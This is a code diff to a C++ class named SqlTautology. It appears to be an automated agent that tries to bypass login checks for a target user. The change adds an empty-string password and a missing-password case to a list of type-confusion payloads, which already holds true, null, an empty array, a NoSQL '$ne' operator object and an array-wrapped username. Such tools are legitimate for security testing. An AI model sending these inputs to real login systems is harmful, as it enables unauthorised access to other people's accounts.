@@ -70,12 +70,14 @@ class SqlTautology final : public Agent {
         return false;
     }
 
-    // Types that a comparison, a driver or a library may read otherwise than was meant.
+    // Types that a comparison, a driver or a library may read otherwise than was meant, and no
+    // password at all.
     static bool try_types(Attempt const& attempt, std::string const& victim) {
-        for (char const* raw : {"true", "null", "[]", "{\"$ne\":\"\"}"}) {
+        for (char const* raw : {"\"\"", "true", "null", "[]", "{\"$ne\":\"\"}"}) {
             if (attempt.wins(victim, {attempt.password(), raw, Dress::Raw})) return true;
         }
-        return attempt.wins(victim, {attempt.username(), victim, Dress::Array});
+        return attempt.wins(victim, {attempt.password(), "", Dress::Missing}) ||
+               attempt.wins(victim, {attempt.username(), victim, Dress::Array});
     }
 
     static void try_forged_row(Attempt const& attempt) {
